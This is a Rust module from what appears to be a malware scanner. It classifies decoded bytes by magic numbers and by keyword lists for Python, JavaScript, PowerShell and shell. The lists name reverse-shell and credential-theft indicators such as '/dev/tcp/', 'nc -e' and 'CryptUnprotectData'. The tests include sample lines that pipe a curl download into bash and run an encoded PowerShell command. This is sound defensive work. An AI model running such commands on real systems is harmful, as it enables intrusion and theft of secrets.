//! What decoded bytes are: something to look at again, or noise.

use crate::model::FileKind;

/// What a decoded value is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Worth {
    /// A program for a machine.
    Executable,
    /// A container that the engine opens.
    Archive,
    /// A compressed stream, and the layer that opens it.
    Packed(super::layer::Layer),
    /// Marshalled Python code.
    Marshal,
    /// WebAssembly: code, but ordinary in text.
    Wasm,
    /// Source code in the language of this file ending.
    Code(&'static str),
    /// A command line, for the shell of this file ending.
    Command(&'static str),
    /// One or a few addresses.
    Address,
    /// Markup, settings, prose: text without code.
    Text,
    /// Pictures, fonts, keys, random bytes.
    Noise,
}

impl Worth {
    /// Whether it is worth another look by the engine.
    pub(super) fn is_interesting(self) -> bool {
        !matches!(self, Self::Text | Self::Noise | Self::Packed(_))
    }

    /// Whether it is or holds instructions.
    pub(super) fn runs(self) -> bool {
        matches!(self, Self::Executable | Self::Marshal | Self::Code(_) | Self::Command(_))
    }

    /// The ending of the child's name.
    pub(super) fn extension(self) -> &'static str {
        match self {
            Self::Code(ending) | Self::Command(ending) => ending,
            Self::Address | Self::Text => "txt",
            Self::Wasm => "wasm",
            Self::Executable | Self::Archive | Self::Packed(_) | Self::Marshal | Self::Noise => "bin",
        }
    }
}

/// Weighs bytes (or the beginning of them) that were found in a file of the kind `parent`.
pub(super) fn weigh(bytes: &[u8], parent: FileKind) -> Worth {
    match as_text(bytes) {
        Some(text) => weigh_text(text, parent),
        None => weigh_binary(bytes),
    }
}

/// The bytes as text, when they are: UTF-8 (the end may be cut off) and hardly any control characters.
pub(super) fn as_text(bytes: &[u8]) -> Option<&str> {
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => text,
        Err(e) if e.error_len().is_none() => std::str::from_utf8(bytes.get(..e.valid_up_to())?).ok()?,
        Err(_) => return None,
    };
    let probe = text.as_bytes().get(..4096).unwrap_or(text.as_bytes());
    let control =
        probe.iter().filter(|b| b.is_ascii_control() && !matches!(b, b'\n' | b'\r' | b'\t' | 0x1b | 0x0c)).count();
    (!text.is_empty() && control * 64 <= probe.len()).then_some(text)
}

fn weigh_binary(b: &[u8]) -> Worth {
    use super::layer::Layer;
    match *b {
        [0x7f, b'E', b'L', b'F', 1..=2, 1..=2, ..] => Worth::Executable,
        [b'M', b'Z', ..] if is_pe(b) => Worth::Executable,
        [0xcf | 0xce, 0xfa, 0xed, 0xfe, ..] | [0xfe, 0xed, 0xfa, 0xce | 0xcf, ..] => Worth::Executable,
        [b'P', b'K', 3, 4, ..]
        | [b'7', b'z', 0xbc, 0xaf, 0x27, 0x1c, ..]
        | [b'R', b'a', b'r', b'!', 0x1a, 7, ..]
        | [b'M', b'S', b'C', b'F', 0, 0, ..]
        | [0x28, 0xb5, 0x2f, 0xfd, ..] => Worth::Archive,
        [0x1f, 0x8b, 8, flags, ..] if flags < 0x20 => Worth::Packed(Layer::Gzip),
        [0xfd, b'7', b'z', b'X', b'Z', 0, ..] => Worth::Packed(Layer::Xz),
        [b'B', b'Z', b'h', b'1'..=b'9', 0x31, 0x41, 0x59, 0x26, ..] => Worth::Packed(Layer::Bzip2),
        [0x5d, 0, 0, _, _, _, _, _, _, _, _, _, _, ..] => Worth::Packed(Layer::Lzma),
        [a, f, ..] if a & 0x0f == 8 && a >> 4 <= 7 && (u16::from(a) << 8 | u16::from(f)) % 31 == 0 && f & 0x20 == 0 => {
            Worth::Packed(Layer::Zlib)
        }
        [0, b'a', b's', b'm', 1, 0, 0, 0, ..] => Worth::Wasm,
        [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x2d..=0x60, ..] => Worth::Executable,
        // A marshalled code object: the type byte, then argument counts of little weight.
        [0xe3 | b'c', a, 0, 0, 0, c, 0, 0, 0, ..] if a < 64 && c < 64 && b.len() > 60 => Worth::Marshal,
        _ if is_tar(b) => Worth::Archive,
        _ => Worth::Noise,
    }
}

/// Whether the DOS header points to a PE header (or beyond a preview that is cut off).
fn is_pe(bytes: &[u8]) -> bool {
    let Some(at) = bytes.get(0x3c..0x40).and_then(|b| b.first_chunk::<4>()).map(|b| u32::from_le_bytes(*b)) else {
        return false;
    };
    let at = usize::try_from(at).unwrap_or(usize::MAX);
    (0x40..=0x1000).contains(&at) && bytes.get(at..at + 4).is_none_or(|s| s == b"PE\0\0")
}

fn is_tar(bytes: &[u8]) -> bool {
    bytes.get(257..262) == Some(b"ustar")
}

const PYTHON: &[&str] = &[
    "import os",
    "import sys",
    "import base64",
    "import requests",
    "import subprocess",
    "import socket",
    "import re",
    "import json",
    "import urllib",
    "from urllib",
    "__import__(",
    "exec(",
    "def ",
    "print(",
    "subprocess.",
    "os.system",
    "os.path",
    "os.environ",
    "lambda ",
    "except:",
    "except Exception",
    "self.",
    "elif ",
    "requests.",
    "open(",
    ".decode(",
    "if __name__",
    "compile(",
    "\nimport ",
    "\nfrom ",
    "eval(",
    "zlib.",
    "marshal",
    "None",
    "with open",
];
const JAVASCRIPT: &[&str] = &[
    "function(",
    "function ",
    "=>",
    "const ",
    "var ",
    "let ",
    "require(",
    "process.",
    "document.",
    "window.",
    "module.exports",
    "console.",
    "eval(",
    "async ",
    "await ",
    "new Function",
    "child_process",
    "JSON.parse",
    "typeof ",
    "return ",
    "===",
    "fetch(",
    "Buffer.from",
    "self.onmessage",
    "postMessage(",
    "importScripts",
    "});",
    "null",
];
const POWERSHELL: &[&str] = &[
    "powershell",
    "Invoke-",
    "New-Object",
    "$env:",
    "IEX",
    "iex ",
    "-EncodedCommand",
    "-enc ",
    "[System.",
    "DownloadString",
    "DownloadFile",
    "Start-Process",
    "-WindowStyle",
    "Get-",
    "Set-",
    "Write-",
    "$_",
    "Start-Sleep",
    "[Convert]",
    "-ExecutionPolicy",
    "Out-Null",
    "[Net.",
];
const SHELL: &[&str] = &[
    "#!/bin/",
    "#!/usr/bin/env ",
    "curl ",
    "wget ",
    "chmod ",
    "bash -",
    "| bash",
    "| sh",
    "|bash",
    "|sh",
    "/dev/tcp/",
    "nohup ",
    "mkfifo ",
    "base64 -d",
    "crontab",
    "&& ",
    "echo ",
    "export ",
    "sudo ",
    "rm -rf",
    "/bin/sh",
    "/bin/bash",
    "nc -e",
    "cmd.exe",
    "cmd /c",
    "certutil",
    "bitsadmin",
    "schtasks",
    "reg add",
    "python -c",
    "python3 -c",
    "node -e",
    "\nfi\n",
    "$(",
    "mshta ",
];

/// Words for which decoded code is suspicious.
const SENSITIVE: &[&str] = &[
    "exec(",
    "eval(",
    "subprocess",
    "os.system",
    "child_process",
    "new Function",
    "__import__(",
    "socket.",
    "urlopen",
    "requests.",
    "powershell",
    "cmd.exe",
    "/bin/sh",
    "/bin/bash",
    "execSync",
    "os.environ",
    "process.env",
    ".ssh",
    "Login Data",
    "webhook",
    "discord",
    "telegram",
    "DownloadString",
    "DownloadFile",
    "Start-Process",
    "CryptUnprotectData",
    "http.client",
    "WebClient",
    "ctypes",
    "VirtualAlloc",
    "wallet",
    "keylog",
    "/dev/tcp/",
    "urllib",
    "https.get",
    "http.get",
    "popen(",
    "Popen(",
];

/// Whether code does what is worth hiding.
pub(super) fn is_sensitive(text: &str) -> bool {
    SENSITIVE.iter().any(|w| text.contains(w))
}

fn score(text: &str, words: &[&str]) -> usize {
    words.iter().filter(|w| text.contains(**w)).count()
}

fn weigh_text(text: &str, parent: FileKind) -> Worth {
    let text = text.get(..text.floor_char_boundary(16 << 10)).unwrap_or(text);
    let start = text.trim_start_matches(['\u{feff}', ' ', '\n', '\r', '\t', ';', '\0']);
    let bytes = start.as_bytes();
    if start.len() < 5 {
        return Worth::Text;
    }
    if is_address(start) {
        return Worth::Address;
    }
    // Markup, settings and keys are read as what they are; scripts inside them are too common to follow.
    let markup = matches!(bytes, [b'<', b'?' | b'!' | b'a'..=b'z' | b'A'..=b'Z' | b'/', ..] | [b'-', b'-', b'-', ..]);
    let settings = matches!(bytes, [b'{' | b'[', b'"' | b'{' | b'}' | b' ' | b'\n' | b']' | b'0'..=b'9', ..])
        && !start.contains("=>");
    // What a source map holds of sources nobody runs, however much code that is.
    let is_map = start.starts_with("{\"version\":3,") && start.contains("\"sources\"");
    if markup || is_map || (settings && score(start, PYTHON) + score(start, JAVASCRIPT) < 4) {
        let runs = start.contains("<script") && is_sensitive(start);
        return if runs { Worth::Code("html") } else { Worth::Text };
    }
    // Stylesheets and plain words have none of the signs of a statement.
    if !start.contains(['(', '=', '|', '/', '$', '-', '.', ';']) {
        return Worth::Text;
    }
    let bonus = |kinds: &[FileKind]| usize::from(kinds.contains(&parent));
    let shapes = [
        (score(start, PYTHON), bonus(&[FileKind::Python, FileKind::Pyc]), "py"),
        (score(start, JAVASCRIPT), bonus(&[FileKind::JavaScript, FileKind::TypeScript, FileKind::Html]), "js"),
        (score(start, POWERSHELL), bonus(&[FileKind::PowerShell]), "ps1"),
        (score(start, SHELL), bonus(&[FileKind::Shell, FileKind::Batch]), "sh"),
    ];
    let Some((hits, _, ending)) = shapes.into_iter().max_by_key(|(hits, bonus, _)| hits * 2 + bonus) else {
        return Worth::Text;
    };
    let short = start.len() < 400;
    let strong = bytes.starts_with(b"#!/")
        || ["exec(", "eval(", "import ", "__import__(", "require('", "require(\""].iter().any(|w| start.starts_with(w));
    let statement = start.contains('(') || start.contains('=') || matches!(ending, "sh" | "ps1");
    if !(statement
        && (hits >= 3
            || hits >= 2 && (short || is_sensitive(start))
            || hits >= 1 && (strong || is_sensitive(start) && short)))
    {
        return Worth::Text;
    }
    match ending {
        "sh" | "ps1" if start.lines().count() <= 3 => Worth::Command(ending),
        _ => Worth::Code(ending),
    }
}

/// Whether text is one address or a list of them.
fn is_address(text: &str) -> bool {
    let mut words =
        text.split([' ', '\n', '\r', '\t', ',', ';', '|', '\0']).filter(|w| !w.is_empty()).take(64).peekable();
    text.len() < 4096 && words.peek().is_some() && words.all(is_one_address)
}

fn is_one_address(word: &str) -> bool {
    let rest = ["http://", "https://", "ws://", "wss://", "ftp://", "tcp://"].iter().find_map(|s| word.strip_prefix(s));
    match rest {
        Some(rest) => rest.len() >= 4 && rest.contains(['.', ':', '/']) && rest.bytes().all(|b| b.is_ascii_graphic()),
        None => {
            // A public IPv4 address with or without a port.
            let host = word.split(':').next().unwrap_or(word);
            host.parse::<std::net::Ipv4Addr>()
                .is_ok_and(|ip| !ip.is_loopback() && !ip.is_unspecified() && !ip.is_broadcast())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Worth {
        weigh(text.as_bytes(), FileKind::Python)
    }

    #[test]
    fn code_commands_and_addresses_are_worth_a_look() {
        assert_eq!(of("import os\nos.system('id')"), Worth::Code("py"));
        assert_eq!(of("exec(x)"), Worth::Code("py"));
        assert_eq!(of("const a = require('http'); a.get(process.env.X)"), Worth::Code("js"));
        assert_eq!(of("curl -s http://a.invalid/x | bash -s"), Worth::Command("sh"));
        assert_eq!(of("powershell -WindowStyle Hidden -enc AAAA"), Worth::Command("ps1"));
        assert_eq!(of("https://a.invalid/x"), Worth::Address);
        assert_eq!(of("203.0.113.7:4444"), Worth::Address);
        assert_eq!(weigh(b"\x7fELF\x02\x01\x01\0\0\0", FileKind::Python), Worth::Executable);
    }

    #[test]
    fn prose_markup_and_binaries_are_not() {
        for text in [
            "The quick brown fox jumps over the lazy dog and so on",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0\"/></svg>",
            "{\"alg\":\"HS256\",\"typ\":\"JWT\"}",
            "{\"version\":3,\"sources\":[\"a.ts\"],\"mappings\":\"AAAA\"}",
            "{\"version\":3,\"sources\":[\"a.ts\"],\"sourcesContent\":[\"const f = () => require('x'); module.exports = f;\"]}",
            "-----BEGIN CERTIFICATE-----\nMIIB",
            "body { color: red }",
            "user:password",
        ] {
            assert!(!of(text).is_interesting(), "{text}: {:?}", of(text));
        }
        for bytes in
            [&b"\x89PNG\r\n\x1a\n\0\0\0\r"[..], b"\x30\x82\x01\x0a\x02\x82", b"MZ\x90\0", b"\xff\xd8\xff\xe0", b""]
        {
            assert_eq!(weigh(bytes, FileKind::Python), Worth::Noise);
        }
    }
}
